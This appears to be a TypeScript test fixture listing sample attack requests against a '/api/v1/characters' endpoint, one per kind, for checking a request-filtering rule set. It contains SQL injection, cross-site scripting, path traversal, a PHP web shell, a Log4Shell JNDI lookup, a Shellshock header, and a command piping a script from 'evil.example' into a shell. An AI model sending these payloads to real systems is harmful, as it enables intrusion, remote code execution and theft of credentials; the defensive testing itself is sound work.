import type { Asked } from './asked.ts'
import { CLIENT_HEADERS } from './own-traffic.ts'

/** A request that wants what it may not have. */
export interface Attack extends Asked {
  readonly kind: string
}

const LIST = '/api/v1/characters'
const named = (kind: string, value: string): Attack => ({
  ...{ kind, path: `${LIST}?${new URLSearchParams({ name: value })}`, headers: CLIENT_HEADERS },
})
const said = (kind: string, headers: Readonly<Record<string, string>>): Attack => ({
  ...{ kind, path: LIST, headers: { ...CLIENT_HEADERS, ...headers } },
})

/** One of each kind that the rule set is made for. */
export const ATTACKS: readonly Attack[] = [
  named('SQL injection', "' OR '1'='1"),
  named('SQL injection by UNION', "x' UNION SELECT username, password FROM users--"),
  named('SQL injection that waits', '1; SELECT pg_sleep(10)--'),
  named('script in a page', '<script>alert(document.cookie)</script>'),
  named('script by an event', '<img src=x onerror=alert(1)>'),
  named('a file of the system', '../../../../etc/passwd'),
  named('a command', '; cat /etc/passwd'),
  named('a command in a shell', '$(curl http://evil.example/x.sh | sh)'),
  named('a page from elsewhere', 'http://198.51.100.7/shell.txt?'),
  named('code of PHP', '<?php system($_GET["c"]); ?>'),
  named('code of Node', "require('child_process').exec('id')"),
  named('Log4Shell', `\${jndi:ldap://evil.example/a}`),
  said('a scanner', { 'user-agent': 'sqlmap/1.8.2#stable (https://sqlmap.org)' }),
  said('Shellshock', { 'user-agent': '() { :; }; /bin/bash -c "id"' }),
  { kind: 'a file of settings', path: '/.env', headers: CLIENT_HEADERS },
  { kind: 'a file of Git', path: '/.git/config', headers: CLIENT_HEADERS },
  { kind: 'a method that the service has not', path: LIST, method: 'PUT', headers: CLIENT_HEADERS },
  {
    ...{ kind: 'SQL injection in JSON', path: `${LIST}/refresh`, method: 'POST' },
    headers: { ...CLIENT_HEADERS, 'content-type': 'application/json' },
    body: Buffer.from(JSON.stringify({ note: "x' UNION SELECT username, password FROM users--" })),
  },
]
